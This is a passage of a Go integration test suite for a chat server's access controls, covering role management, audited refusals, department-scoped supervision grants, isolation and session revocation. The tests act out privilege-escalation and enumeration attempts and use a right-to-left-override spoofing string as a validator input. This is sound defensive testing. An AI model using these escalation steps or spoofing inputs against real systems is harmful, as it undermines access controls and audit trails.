			body: jsonBody(t, wire.CreateRoleRequest{Name: e.unique("Shadow security "), Permissions: perms})})
		expect(t, r, 400, "invalid")
	}
	for _, name := range []string{"Security_Admin", "AUDITOR", "system_admin", "user"} {
		r := e.do(t, req{method: "POST", path: "/api/v1/roles", token: sec.Token(),
			body: jsonBody(t, wire.CreateRoleRequest{Name: name, Permissions: []string{"users.unlock"}})})
		expect(t, r, 409, "conflict")
	}
	for _, body := range []string{`{"permissions":["roles.grant"]}`, `{"permissions":["users.unlock","security.policy"]}`,
		`{"permissions":["roles.manage"]}`, `{"name":"Security_Admin"}`} {
		r := e.do(t, req{method: "PATCH", path: "/api/v1/roles/" + url.PathEscape(helpdesk.RoleID), token: sec.Token(), body: []byte(body)})
		if r.Status != 400 && r.Status != 409 {
			t.Errorf("PATCH %s: %s", body, r)
		}
	}
	// Built-in roles are not editable at all.
	for _, id := range []string{"security_admin", "auditor", "user"} {
		r := e.do(t, req{method: "PATCH", path: "/api/v1/roles/" + id, token: sec.Token(), body: []byte(`{"permissions":["users.unlock"]}`)})
		expect(t, r, 404, "not_found")
	}
	if after := e.roleList(t); !rolesEqual(rolesBefore, after) {
		t.Fatalf("roles changed: %+v → %+v", rolesBefore, after)
	}
	e.expectAudit(t, mark, "a refused role definition", by(sec.ID, "role.create", "denied"))
	e.expectAudit(t, mark, "a refused role change", by(sec.ID, "role.update", "denied"))
}

// ---- Z5, Z4: the auditor and the system admin ------------------------------------

// heldPerms returns the permissions of a's roles as the server lists them.
func heldPerms(t *testing.T, a *account) map[string]bool {
	t.Helper()
	me, err := a.Me(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	roles, err := a.Roles(ctx(t))
	if err != nil {
		t.Fatalf("roles: %v", err)
	}
	held := map[string]bool{}
	for _, r := range roles {
		if slices.Contains(me.Roles, r.RoleID) {
			for _, p := range r.Permissions {
				held[p] = true
			}
		}
	}
	return held
}

func auditorWrites(t *testing.T, e *env) {
	aud, bob := e.auditor(t), e.user(t, "bob")
	held := heldPerms(t, aud)
	if held["users.create"] || !held["audit.read"] {
		t.Fatalf("the auditor holds %v", held)
	}
	_, ops := e.openAPI(t)
	ids := map[string]string{"id": e.dept(t, "Engineering"), "/api/v1/users/{id}": bob.ID, "channel": "email"}
	deptsBefore, rolesBefore := departmentsOf(t, aud), e.roleList(t)
	e.stepUp(t, aud)
	mark := e.auditMark(t)
	n := 0
	var allowed []string
	for _, op := range ops {
		if op.Method == "GET" || op.Perm == "public" {
			continue
		}
		if held[op.Perm] {
			allowed = append(allowed, op.Method+" "+op.Path)
			continue
		}
		var body []byte
		if op.Body != "" {
			body = []byte(`{}`)
		}
		r := e.do(t, req{method: op.Method, path: fillPath(op.Path, ids), token: aud.Token(), body: body})
		if r.Status != 403 || r.Err.Code != "forbidden" {
			t.Errorf("%s %s as the auditor: %s", op.Method, op.Path, r)
		}
		n++
	}
	if n < 20 {
		t.Fatalf("only %d write operations outside the auditor's permissions", n)
	}
	t.Logf("%d write operations refused; the auditor's own: %s", n, strings.Join(allowed, ", "))
	if d := e.countAudit(t, mark, by(aud.ID, "api.denied", "denied")); d < n {
		t.Errorf("%d of %d refusals audited", d, n)
	}
	if after := departmentsOf(t, aud); !slices.Equal(deptsBefore, after) {
		t.Fatalf("departments changed: %+v → %+v", deptsBefore, after)
	}
	if after := e.roleList(t); !rolesEqual(rolesBefore, after) {
		t.Fatalf("roles changed")
	}
}

func sysadminOversightRoutes(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	conv := e.conversation(t, "alice-bob")
	dana := e.holder(t, "danaz", eng, "department_admin", "")
	sid := e.openSupervision(t, dana, eng, 30)
	admin := e.admin(t)
	adminBefore := e.grantLabels(t, admin.ID)
	puppet := e.unique("puppet")
	_, ops := e.openAPI(t)
	ids := map[string]string{"id": sid, "cid": conv, "seq": "1"}
	oversight := []string{"supervision", "supervision.approve", "access.review", "audit.read"}
	e.stepUp(t, admin)
	mark := e.auditMark(t)
	n := 0
	for _, op := range ops {
		if !slices.Contains(oversight, op.Perm) {
			continue
		}
		var body []byte
		if op.Body != "" {
			body = []byte(`{}`)
		}
		if op.Path == "/api/v1/supervision" && op.Method == "POST" {
			body = jsonBody(t, wire.SupervisionRequest{DepartmentID: eng, Reason: supervisionReason})
		}
		r := e.do(t, req{method: op.Method, path: fillPath(op.Path, ids), token: admin.Token(), body: body})
		if r.Status != 403 || r.Err.Code != "forbidden" {
			t.Errorf("%s %s as the system admin: %s", op.Method, op.Path, r)
		}
		noSecrets(t, r)
		n++
	}
	if n < 12 {
		t.Fatalf("only %d oversight operations in the OpenAPI document", n)
	}
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/access-review?format=csv", token: admin.Token()}), 403, "forbidden")
	// Granting itself the department admin's role, directly or through an
	// account it makes for the purpose.
	expect(t, e.do(t, req{method: "POST", path: "/api/v1/users/" + admin.ID + "/roles", token: admin.Token(),
		body: jsonBody(t, wire.GrantRoleRequest{Role: "department_admin", DepartmentID: eng})}), 403, "forbidden")
	expect(t, e.do(t, req{method: "POST", path: "/api/v1/users", token: admin.Token(), body: jsonBody(t, wire.CreateUserRequest{
		Username: puppet, DisplayName: "Puppet", Password: password, DepartmentID: eng, Roles: []string{"department_admin"}})}), 403, "forbidden")
	if users, _ := admin.Users(ctx(t), puppet); len(users) != 0 {
		t.Fatalf("%s was created", puppet)
	}
	e.sameGrants(t, "the system admin", admin.ID, adminBefore)
	if d := e.countAudit(t, mark, by(admin.ID, "api.denied", "denied")); d < n+1 {
		t.Errorf("%d of %d refusals audited", d, n+1)
	}
	// The department admin's grant is untouched by all this.
	if _, err := dana.SupervisedHistory(ctx(t), sid, conv, 0, 10); err != nil {
		t.Fatalf("the real supervisor lost access: %v", err)
	}
}

func collusionScopedSupervision(t *testing.T, e *env) {
	eng, fin := e.dept(t, "Engineering"), e.dept(t, "Finance")
	conv := e.conversation(t, "alice-bob")
	finConv := e.financeConversation(t)
	sec := e.security(t)
	admin := e.admin(t)
	oldToken := admin.Token()
	mark := e.auditMark(t)
	// The designed outcome: a security admin may give the system admin a
	// department admin's role (no duty is crossed; the two-person rule,
	// when on, would need a second security admin).
	res, err := sec.GrantRole(ctx(t), admin.ID, wire.GrantRoleRequest{Role: "department_admin", DepartmentID: eng, Reason: "covering for a colleague"})
	if err != nil || res.Status != "granted" {
		t.Fatalf("grant: %+v, %v", res, err)
	}
	e.expectAudit(t, mark, "the grant", func(r wire.AuditRecord) bool {
		return by(sec.ID, "role.grant", "success")(r) && r.Target == admin.ID+" department_admin@"+eng
	})
	// Its sessions ended with the grant (A5).
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/me", token: oldToken}), 401, "unauthenticated")
	e.relogin(t, admin)

	// Membership still rules plain history.
	r := e.do(t, req{method: "GET", path: "/api/v1/conversations/" + conv + "/messages", token: admin.Token()})
	expect(t, r, 404, "not_found")
	noSecrets(t, r)
	// Only its department, only with a reason, only with a fresh factor.
	e.stepUp(t, admin)
	_, err = admin.OpenSupervision(ctx(t), fin, supervisionReason, "", 0)
	wantCode(t, "supervision of Finance", err, 404, "not_found")
	_, err = admin.OpenSupervision(ctx(t), eng, "", "", 0)
	wantCode(t, "supervision without a reason", err, 400, "invalid")
	if e.srv != nil {
		e.advance(t, 6*time.Minute)
		_, err = admin.OpenSupervision(ctx(t), eng, supervisionReason, "", 0)
		wantCode(t, "supervision with a stale factor", err, 403, "step_up_required")
	}
	sid := e.openSupervision(t, admin, eng, 30)
	list, err := admin.SupervisedConversations(ctx(t), sid, "", 0)
	if err != nil || !list.Supervised {
		t.Fatalf("supervised list: %+v, %v", list, err)
	}
	var listed []string
	for _, c := range list.Conversations {
		listed = append(listed, c.ConversationID)
	}
	if !slices.Contains(listed, conv) || slices.Contains(listed, finConv) {
		t.Fatalf("supervised list %v (Engineering %s, Finance %s)", listed, conv, finConv)
	}
	hist, err := admin.SupervisedHistory(ctx(t), sid, conv, 0, 50)
	if err != nil || !hist.Supervised || len(hist.Messages) == 0 {
		t.Fatalf("supervised history: %+v, %v", hist, err)
	}
	_, err = admin.SupervisedHistory(ctx(t), sid, finConv, 0, 50)
	wantCode(t, "supervised read of Finance", err, 404, "not_found")
	e.expectAudit(t, mark, "the opening with its reason", func(r wire.AuditRecord) bool {
		return by(admin.ID, "supervision.open", "success")(r) && r.Target == sid && strings.Contains(r.Reason, supervisionReason)
	})
	e.expectAudit(t, mark, "the read with its reason", func(r wire.AuditRecord) bool {
		return by(admin.ID, "supervision.read", "success")(r) && r.Target == conv && strings.Contains(r.Reason, supervisionReason)
	})
	e.expectAudit(t, mark, "the refused read of Finance", func(r wire.AuditRecord) bool {
		return by(admin.ID, "supervision.read", "denied")(r) && r.Target == finConv
	})

	// Revoked: the grant is dead with the role (and the admin as before).
	e.stepUp(t, sec)
	if err := sec.RevokeRole(ctx(t), admin.ID, wire.GrantRoleRequest{Role: "department_admin", DepartmentID: eng, Reason: "back"}); err != nil {
		t.Fatal(err)
	}
	e.relogin(t, admin)
	e.stepUp(t, admin)
	_, err = admin.SupervisedHistory(ctx(t), sid, conv, 0, 50)
	wantCode(t, "supervision after the revoke", err, 403, "forbidden")
}

// ---- Z3, D3: supervision ---------------------------------------------------------

func supervisionOutsideScope(t *testing.T, e *env) {
	eng, fin := e.dept(t, "Engineering"), e.dept(t, "Finance")
	dana := e.holder(t, "danascope", eng, "department_admin", "")
	root := rootDepartment(t, dana)
	e.stepUp(t, dana)
	mark := e.auditMark(t)
	open := func(dept, reason string) *reply {
		return e.do(t, req{method: "POST", path: "/api/v1/supervision", token: dana.Token(),
			body: jsonBody(t, wire.SupervisionRequest{DepartmentID: dept, Reason: reason})})
	}
	ghost := open(ghostID("d_"), supervisionReason)
	expect(t, ghost, 404, "not_found")
	for name, dept := range map[string]string{"Finance": fin, "the root (its parent)": root} {
		r := open(dept, supervisionReason)
		expect(t, r, 404, "not_found")
		indistinguishable(t, name+" vs a made-up department", r, ghost)
	}
	for _, reason := range []string{"", "   ", "because", "line\nbreak in the stated reason", "tab\tin the stated reason here",
		strings.Repeat("x", 501), "\u202eevil reason overrides the text"} {
		expect(t, open(eng, reason), 400, "invalid")
	}
	expect(t, e.do(t, req{method: "POST", path: "/api/v1/supervision", token: dana.Token(),
		body: []byte(`{"department_id":"` + eng + `"}`)}), 400, "invalid")
	if list, err := dana.Supervisions(ctx(t)); err != nil || len(list) != 0 {
		t.Fatalf("grants after the refusals: %+v, %v", list, err)
	}
	e.expectAudit(t, mark, "the refused opening over Finance", func(r wire.AuditRecord) bool {
		return by(dana.ID, "supervision.open", "denied")(r) && r.Target == fin
	})
}

func supervisedReadOutsideGrant(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	conv := e.conversation(t, "alice-bob")
	finConv := e.financeConversation(t)
	carol := e.user(t, "carol")
	dana := e.holder(t, "danagrant", eng, "department_admin", "")
	sid := e.openSupervision(t, dana, eng, 30)
	before, err := carol.History(ctx(t), finConv, 0, 200)
	if err != nil {
		t.Fatal(err)
	}
	e.stepUp(t, dana)
	mark := e.auditMark(t)
	base := "/api/v1/supervision/" + sid + "/conversations/"
	for _, c := range []struct {
		method, suffix string
		body           []byte
	}{
		{"GET", "/messages", nil},
		{"GET", "/messages?after_seq=0&limit=200", nil},
		{"POST", "/messages/1/recall", []byte(`{}`)},
		{"POST", "/mute", jsonBody(t, wire.MuteRequest{UserID: carol.ID, Minutes: 30})},
	} {
		rf := e.do(t, req{method: c.method, path: base + finConv + c.suffix, token: dana.Token(), body: c.body})
		rg := e.do(t, req{method: c.method, path: base + ghostID("c_") + c.suffix, token: dana.Token(), body: c.body})
		expect(t, rf, 404, "not_found")
		noSecrets(t, rf)
		indistinguishable(t, c.method+" "+c.suffix+" Finance vs made-up", rf, rg)
	}
	// Plain history is membership, grant or not.
	r := e.do(t, req{method: "GET", path: "/api/v1/conversations/" + finConv + "/messages", token: dana.Token()})
	expect(t, r, 404, "not_found")
	noSecrets(t, r)
	list, err := dana.SupervisedConversations(ctx(t), sid, "", 0)
	if err != nil {
		t.Fatal(err)
	}
	var listed []string
	for _, c := range list.Conversations {
		listed = append(listed, c.ConversationID)
	}
	if slices.Contains(listed, finConv) || !slices.Contains(listed, conv) {
		t.Fatalf("supervised list %v (Engineering %s, Finance %s)", listed, conv, finConv)
	}
	// Nothing recalled, nobody muted.
	after, err := carol.History(ctx(t), finConv, 0, 200)
	if err != nil || len(after) != len(before) || after[0].Recalled || after[0].Body != before[0].Body {
		t.Fatalf("Finance history changed: %+v → %+v (%v)", before, after, err)
	}
	if _, err := carol.Send(ctx(t), finConv, e.unique("not-muted"), "still talking"); err != nil {
		t.Fatalf("carol was muted: %v", err)
	}
	e.expectAudit(t, mark, "the refused read", func(r wire.AuditRecord) bool {
		return by(dana.ID, "supervision.read", "denied")(r) && r.Target == finConv
	})
	e.expectAudit(t, mark, "the refused recall", by(dana.ID, "supervision.recall", "denied"))
	e.expectAudit(t, mark, "the refused mute", by(dana.ID, "supervision.mute", "denied"))
}

// supervisedCalls tries every use of grant sid on conv and wants status
// and code for each.
func supervisedCalls(t *testing.T, e *env, a *account, sid, conv, member string, status int, code string) {
	t.Helper()
	base := "/api/v1/supervision/" + url.PathEscape(sid)
	for _, rq := range []req{
		{method: "GET", path: base + "/conversations"},
		{method: "GET", path: base + "/conversations/" + conv + "/messages"},
		{method: "POST", path: base + "/conversations/" + conv + "/messages/1/recall", body: []byte(`{}`)},
		{method: "POST", path: base + "/conversations/" + conv + "/mute", body: jsonBody(t, wire.MuteRequest{UserID: member, Minutes: 30})},
	} {
		rq.token = a.Token()
		r := e.do(t, rq)
		if r.Status != status || r.Err.Code != code {
			t.Errorf("%s %s: %s, want %d %s", rq.method, rq.path, r, status, code)
		}
		noSecrets(t, r)
	}
}

// untouched fails if message 1 of conv was recalled or member is muted.
func untouched(t *testing.T, e *env, member *account, conv string) {
	t.Helper()
	msgs, err := member.History(ctx(t), conv, 0, 200)
	if err != nil || len(msgs) == 0 || msgs[0].Recalled || msgs[0].Body == "" {
		t.Fatalf("history after the refusals: %+v, %v", msgs, err)
	}
	if _, err := member.Send(ctx(t), conv, e.unique("not-muted"), "still talking"); err != nil {
		t.Fatalf("%s was muted: %v", member.Username, err)
	}
}

func supervisionExpiredOrEnded(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	conv := e.conversation(t, "alice-bob")
	alice := e.user(t, "alice")
	dana := e.holder(t, "danaexp", eng, "department_admin", "")
	short := e.openSupervision(t, dana, eng, 1)
	if _, err := dana.SupervisedHistory(ctx(t), short, conv, 0, 10); err != nil {
		t.Fatalf("while active: %v", err)
	}
	e.advance(t, 2*time.Minute)
	e.stepUp(t, dana)
	mark := e.auditMark(t)
	supervisedCalls(t, e, dana, short, conv, alice.ID, 403, "forbidden")
	e.expectAudit(t, mark, "a refused use of the expired grant", func(r wire.AuditRecord) bool {
		return r.ActorID == dana.ID && r.Result == "denied" && r.Target == short && strings.Contains(r.Reason, "expired")
	})

	ended := e.openSupervision(t, dana, eng, 60)
	if err := dana.EndSupervision(ctx(t), ended); err != nil {
		t.Fatal(err)
	}
	e.stepUp(t, dana)
	supervisedCalls(t, e, dana, ended, conv, alice.ID, 403, "forbidden")
	mine, err := dana.Supervisions(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, g := range mine {
		if g.Status == "active" {
			t.Errorf("grant still active: %+v", g)
		}
	}

	// A grant does not outlive the role over its department: dana keeps
	// supervision over Finance (so the router lets her through) but loses
	// Engineering, and her open Engineering grant is dead with it.
	sec := e.security(t)
	fin := e.dept(t, "Finance")
	if _, err := sec.GrantRole(ctx(t), dana.ID, wire.GrantRoleRequest{Role: "department_admin", DepartmentID: fin, Reason: fixtureReason}); err != nil {
		t.Fatal(err)
	}
	e.relogin(t, dana)
	live := e.openSupervision(t, dana, eng, 60)
	e.stepUp(t, sec)
	if err := sec.RevokeRole(ctx(t), dana.ID, wire.GrantRoleRequest{Role: "department_admin", DepartmentID: eng, Reason: "moved"}); err != nil {
		t.Fatal(err)
	}
	e.relogin(t, dana)
	e.stepUp(t, dana)
	mark = e.auditMark(t)
	supervisedCalls(t, e, dana, live, conv, alice.ID, 403, "forbidden")
	e.expectAudit(t, mark, "a refused use after the revoke", func(r wire.AuditRecord) bool {
		return r.ActorID == dana.ID && r.Result == "denied" && r.Target == live && strings.Contains(r.Reason, "no longer supervise")
	})
	untouched(t, e, alice, conv)
}

func supervisionOtherAdminsGrant(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	conv := e.conversation(t, "alice-bob")
	alice := e.user(t, "alice")
	dana := e.holder(t, "danaown", eng, "department_admin", "")
	dora := e.holder(t, "dorathief", eng, "department_admin", "")
	sid := e.openSupervision(t, dana, eng, 30)
	e.stepUp(t, dora)
	mark := e.auditMark(t)
	ghost := ghostID("sv_")
	for _, tmpl := range []req{
		{method: "GET", path: "/api/v1/supervision/%s/conversations"},
		{method: "GET", path: "/api/v1/supervision/%s/conversations/" + conv + "/messages"},
		{method: "POST", path: "/api/v1/supervision/%s/conversations/" + conv + "/messages/1/recall", body: []byte(`{}`)},
		{method: "POST", path: "/api/v1/supervision/%s/conversations/" + conv + "/mute", body: jsonBody(t, wire.MuteRequest{UserID: alice.ID, Minutes: 30})},
		{method: "DELETE", path: "/api/v1/supervision/%s"},
	} {
		a, b := tmpl, tmpl
		a.path, b.path = strings.Replace(tmpl.path, "%s", sid, 1), strings.Replace(tmpl.path, "%s", ghost, 1)
		a.token, b.token = dora.Token(), dora.Token()
		ra, rb := e.do(t, a), e.do(t, b)
		expect(t, ra, 404, "not_found")
		noSecrets(t, ra)
		indistinguishable(t, tmpl.method+" "+tmpl.path+" another's vs made-up", ra, rb)
	}
	if list, err := dora.Supervisions(ctx(t)); err != nil || len(list) != 0 {
		t.Fatalf("dora's grants: %+v, %v", list, err)
	}
	// An ordinary user has no supervision at all.
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/supervision/" + sid + "/conversations", token: alice.Token()}), 403, "forbidden")
	// The owner's grant is untouched.
	mine, err := dana.Supervisions(ctx(t))
	if err != nil || len(mine) != 1 || mine[0].SupervisionID != sid || mine[0].Status != "active" {
		t.Fatalf("the owner's grant: %+v, %v", mine, err)
	}
	untouched(t, e, alice, conv)
	e.expectAudit(t, mark, "the use of another's grant", func(r wire.AuditRecord) bool {
		return r.ActorID == dora.ID && r.Result == "denied" && r.Target == sid
	})
}

// ---- Z7: department isolation ----------------------------------------------------

func isolationHiddenMember(t *testing.T, e *env) {
	alice, bob, carol := e.user(t, "alice"), e.user(t, "bob"), e.user(t, "carol")
	count := func(a *account) int {
		l, err := a.Conversations(ctx(t))
		if err != nil {
			t.Fatal(err)
		}
		return len(l)
	}
	e.isolation(t, "strict")
	nAlice, nBob, nCarol := count(alice), count(bob), count(carol)
	ghost := ghostID("u_")
	for _, c := range []struct {
		typ     string
		members []string
	}{{"direct", []string{carol.ID}}, {"group", []string{bob.ID, carol.ID}}, {"group", []string{carol.ID, bob.ID}}} {
		hidden := e.do(t, req{method: "POST", path: "/api/v1/conversations", token: alice.Token(),
			body: jsonBody(t, wire.CreateConversationRequest{Type: c.typ, MemberIDs: c.members, Title: "over the wall"})})
		var made []string
		for _, m := range c.members {
			made = append(made, strings.ReplaceAll(m, carol.ID, ghost))
		}
		unknown := e.do(t, req{method: "POST", path: "/api/v1/conversations", token: alice.Token(),
			body: jsonBody(t, wire.CreateConversationRequest{Type: c.typ, MemberIDs: made, Title: "over the wall"})})
		expect(t, hidden, 404, "not_found")
		expect(t, unknown, 404, "not_found")
		if strings.ReplaceAll(hidden.Err.Message, carol.ID, ghost) != unknown.Err.Message {
			t.Errorf("%s %v: hidden %q vs unknown %q", c.typ, c.members, hidden.Err.Message, unknown.Err.Message)
		}
	}
	if count(alice) != nAlice || count(bob) != nBob || count(carol) != nCarol {
		t.Fatal("a conversation was created")
	}
	// Within the department all is well.
	if _, err := alice.CreateConversation(ctx(t), "group", []string{bob.ID}, "inside"); err != nil {
		t.Fatalf("a group within the department: %v", err)
	}
	e.isolation(t, "open")
}

func isolationReadOnlySend(t *testing.T, e *env) {
	alice, carol := e.user(t, "alice"), e.user(t, "carol")
	cross, err := alice.CreateConversation(ctx(t), "direct", []string{carol.ID}, "")
	if err == nil {
		_, err = alice.Send(ctx(t), cross, "wall-0", "before the wall")
	}
	if err != nil {
		t.Fatal(err)
	}
	e.isolation(t, "strict")
	n := historyLen(t, e, carol, cross)
	for _, a := range []*account{alice, carol} {
		r := e.do(t, req{method: "POST", path: "/api/v1/conversations/" + cross + "/messages", token: a.Token(),
			body: []byte(`{"client_msg_id":"` + e.unique("wall") + `","body":"over the wall"}`)})
		expect(t, r, 403, "forbidden")
	}
	ws := e.mustWS(t, carol.Token())
	wsWrite(t, ws, `{"type":"send","conversation_id":"`+cross+`","client_msg_id":"wall-ws","body":"over the wall"}`)
	if f, _ := wsNext(t, ws, "error"); f.Code != "forbidden" || f.ClientMsgID != "wall-ws" {
		t.Fatalf("error frame %+v", f)
	}
	wsWrite(t, ws, `{"type":"sync","cursors":{}}`)
	wsNext(t, ws, "synced")
	if got := historyLen(t, e, carol, cross); got != n {
		t.Fatalf("history grew from %d to %d", n, got)
	}
	msgs, err := alice.History(ctx(t), cross, 0, 10)
	if err != nil || len(msgs) != n || msgs[0].Body != "before the wall" {
		t.Fatalf("history under strict isolation: %+v, %v", msgs, err)
	}
	list, err := carol.Conversations(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range list {
		if c.ConversationID == cross && !c.ReadOnly {
			t.Fatal("the conversation is not marked read-only")
		}
	}
	e.isolation(t, "open")
}

func isolationDirectoryEnumeration(t *testing.T, e *env) {
	alice, bob, carol := e.user(t, "alice"), e.user(t, "bob"), e.user(t, "carol")
	e.isolation(t, "strict")
	search := func(q string) *reply {
		r := e.do(t, req{method: "GET", path: "/api/v1/users?q=" + url.QueryEscape(q), token: alice.Token()})
		if r.Status != 200 {
			t.Fatalf("search %q: %s", q, r)
		}
		return r
	}
	nobody := search("zz-nobody-has-this-name")
	for _, q := range []string{carol.Username, carol.Username[:len(carol.Username)-1], "User " + carol.Username, carol.ID,
		strings.ToUpper(carol.Username), " " + carol.Username + " "} {
		r := search(q)
		if strings.Contains(string(r.Body), carol.ID) || strings.Contains(string(r.Body), carol.Username) {
			t.Fatalf("search %q finds the hidden user: %s", q, r)
		}
		if !bytes.Equal(r.Body, nobody.Body) {
			t.Errorf("search %q: %s, a name nobody has: %s", q, r, nobody)
		}
	}
	if r := search(""); strings.Contains(string(r.Body), carol.ID) {
		t.Fatalf("the full listing shows the hidden user: %s", r)
	}
	// Positive controls: the same department is found, and an administrator
	// sees everyone.
	if r := search(bob.Username); !strings.Contains(string(r.Body), bob.ID) {
		t.Fatalf("bob, in alice's department, not found: %s", r)
	}
	if users, err := e.admin(t).Users(ctx(t), carol.Username); err != nil || len(users) != 1 {
		t.Fatalf("the system admin's search: %+v, %v", users, err)
	}
	e.isolation(t, "open")
}

// ---- A5: role changes end live sessions -----------------------------------------

// endedAtOnce fails unless ws closes with 1008 within 2 s and token is
// dead.
func endedAtOnce(t *testing.T, e *env, what string, ws *websocket.Conn, token string) {
	t.Helper()
	if code := wsClosed(t, ws, 2*time.Second); code != websocket.StatusPolicyViolation {
		t.Fatalf("%s: WebSocket closed with %d, want 1008", what, code)
	}
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/me", token: token}), 401, "unauthenticated")
}

func roleChangeEndsSessions(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	u := e.createUser(t, e.unique("promoted"), eng, nil)
	desk := e.customRole(t, "Unlock crew", "users.unlock")
	sec := e.security(t)
	mark := e.auditMark(t)

	ws, old := e.mustWS(t, u.Token()), u.Token()
	if _, err := sec.GrantRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: "department_admin", Reason: fixtureReason}); err != nil {
		t.Fatal(err)
	}
	endedAtOnce(t, e, "grant", ws, old)

	e.loginAndEnrol(t, u)
	ws, old = e.mustWS(t, u.Token()), u.Token()
	e.stepUp(t, sec)
	if err := sec.RevokeRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: "department_admin", Reason: fixtureReason}); err != nil {
		t.Fatal(err)
	}
	endedAtOnce(t, e, "revoke", ws, old)

	e.stepUp(t, sec)
	if _, err := sec.GrantRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: desk.RoleID, Reason: fixtureReason}); err != nil {
		t.Fatal(err)
	}
	e.relogin(t, u)
	ws, old = e.mustWS(t, u.Token()), u.Token()
	e.stepUp(t, sec)
	if _, err := sec.UpdateRole(ctx(t), desk.RoleID, wire.UpdateRoleRequest{Permissions: []string{"users.unlock", "system.info"}}); err != nil {
		t.Fatal(err)
	}
	endedAtOnce(t, e, "custom role change", ws, old)

	for _, action := range []string{"role.grant", "role.revoke"} {
		e.expectAudit(t, mark, action, func(r wire.AuditRecord) bool {
			return by(sec.ID, action, "success")(r) && strings.HasPrefix(r.Target, u.ID+" ")
		})
	}
	e.expectAudit(t, mark, "the role change", func(r wire.AuditRecord) bool {
		return by(sec.ID, "role.update", "success")(r) && r.Target == desk.RoleID
	})
}

// ---- I6: the management plane ---------------------------------------------------

// doAt is do against another listener of the server (base is
// https://host:port), with the same invariants checked.
func (e *env) doAt(t *testing.T, base string, r req) *reply {
	t.Helper()
	var body io.Reader
	if r.body != nil {
		body = bytes.NewReader(r.body)
	}
	hr, err := http.NewRequestWithContext(ctx(t), r.method, base+r.path, body)
	if err != nil {
		t.Fatal(err)
	}
	if r.body != nil {
		hr.Header.Set("Content-Type", "application/json")
	}
	if r.token != "" {
		hr.Header.Set("Authorization", "Bearer "+r.token)
	}
	for k, v := range r.header {
		hr.Header.Set(k, v)
	}
	resp, err := e.https.Do(hr)
	if err != nil {
		t.Fatalf("%s %s%s: %v", r.method, base, r.path, err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	out := &reply{Status: resp.StatusCode, Header: resp.Header, Body: data}
	checkInvariants(t, r.method+" "+base+truncate(r.path, 80), out)
	return out
}

// head sends a HEAD request (an answer without a body, so without the
// error shape that do checks).
func (e *env) head(t *testing.T, path, token string) *reply {
	t.Helper()
	hr, err := http.NewRequestWithContext(ctx(t), "HEAD", e.url+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		hr.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := e.https.Do(hr)
	if err != nil {
		t.Fatalf("HEAD %s: %v", path, err)
	}
	resp.Body.Close()
	if resp.StatusCode >= 500 || resp.Header.Get("X-Frame-Options") != "DENY" {
		t.Errorf("HEAD %s: %d, headers %v", path, resp.StatusCode, resp.Header)
	}
	return &reply{Status: resp.StatusCode, Header: resp.Header}
}

// mgmtAccount makes an account through the management listener (the user
// listener does not serve POST /users there) and signs it in on the user
// listener, enrolling TOTP when it holds a role.
func (e *env) mgmtAccount(t *testing.T, prefix string, roles ...string) *account {
	t.Helper()
	admin := e.admin(t)
	name := e.unique(prefix)
	id, err := e.srv.ManagementClient(admin.Token(), nil).CreateUser(ctx(t), wire.CreateUserRequest{Username: name,
		DisplayName: "User " + name, Password: password, Roles: roles})
	if err != nil {
		t.Fatalf("create %s on the management listener: %v", name, err)
	}
	a := &account{Client: e.newClient(t, ""), ID: id, Username: name, checked: e.now()}
	if len(roles) > 0 {
		e.loginAndEnrol(t, a)
	} else {
		e.loginRetry(t, a.Client, name)
	}
	return a
}

// mgmtAudit reads the whole trail as aud through the management listener.
func (e *env) mgmtAudit(t *testing.T, aud *account) []wire.AuditRecord {
	t.Helper()
	mc := e.srv.ManagementClient(aud.Token(), nil)
	var out []wire.AuditRecord
	var seq int64
	for {
		page, err := mc.Audit(ctx(t), seq, 1000)
		if err != nil {
			t.Fatalf("audit on the management listener: %v", err)
		}
		out = append(out, page...)
		if len(page) < 1000 {
			return out
		}
		seq = page[len(page)-1].Seq
	}
}

// unknownTwin is a path no route has, shaped like p.
func unknownTwin(p string) string {
	if i := strings.IndexByte(p, '?'); i >= 0 {
		p = p[:i]
	}
	return p + "-nope"
}

func mgmtAdminRoutesOnUserListener(t *testing.T, e *env) {
	admin := e.admin(t)
	aud := e.mgmtAccount(t, "auditor", "auditor")
	alice := e.mgmtAccount(t, "alice")
	e.stepUp(t, admin) // nothing but the listener stands in the way
	if _, err := e.srv.ManagementClient(admin.Token(), nil).BuildInfo(ctx(t)); err != nil {
		t.Fatalf("the management listener serves the admin: %v", err)
	}
	// Each listener documents only what it serves: the user listener's
	// document names no administrative operation (no map for an attacker),
	// the management listener's names them all.
	_, userOps := e.openAPI(t)
	_, ops := e.openAPIAt(t, e.srv.ManagementURL)
	for _, op := range userOps {
		if !slices.Contains(userPerms, op.Perm) && op.Perm != "public" {
			t.Errorf("the user listener's OpenAPI document lists %s %s (%s)", op.Method, op.Path, op.Perm)
		}
	}
	ops = append(ops, userOps...)
	ids := map[string]string{"/api/v1/users/{id}": alice.ID}
	userMethods := map[string][]string{} // path → methods of the user listener
	for _, op := range ops {
		if slices.Contains(userPerms, op.Perm) {
			userMethods[op.Path] = append(userMethods[op.Path], op.Method)
		}
	}
	n := 0
	for _, op := range ops {
		if slices.Contains(userPerms, op.Perm) {
			continue
		}
		path := fillPath(op.Path, ids)
		var body []byte
		if op.Body != "" {
			body = []byte(`{}`)
		}
		for _, tok := range []string{"", alice.Token(), admin.Token()} {
			ra := e.do(t, req{method: op.Method, path: path, token: tok, body: body})
			rb := e.do(t, req{method: op.Method, path: unknownTwin(path), token: tok, body: body})
			expect(t, ra, 404, "not_found")
			indistinguishable(t, op.Method+" "+op.Path+" vs an unknown path", ra, rb)
